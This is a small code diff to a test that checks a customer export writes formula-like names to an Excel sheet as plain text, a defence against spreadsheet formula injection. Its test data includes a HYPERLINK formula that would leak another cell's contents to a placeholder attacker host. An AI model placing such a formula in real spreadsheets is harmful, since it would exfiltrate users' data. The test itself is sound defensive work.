@@ -23,7 +23,7 @@ def test_export_writes_formula_like_text_as_text(client, advisor_a, dealer_a):
     client.force_login(advisor_a)
     sheet = load_workbook(BytesIO(client.get("/customers/export.xlsx").content)).active
     names = sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True))
-    assert names == ["'+86客户", "'=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")"]
+    assert names == ["'+86客户", '\'=HYPERLINK("http://evil.example/?"&B2,"x")']
     assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row[:2])
 
 
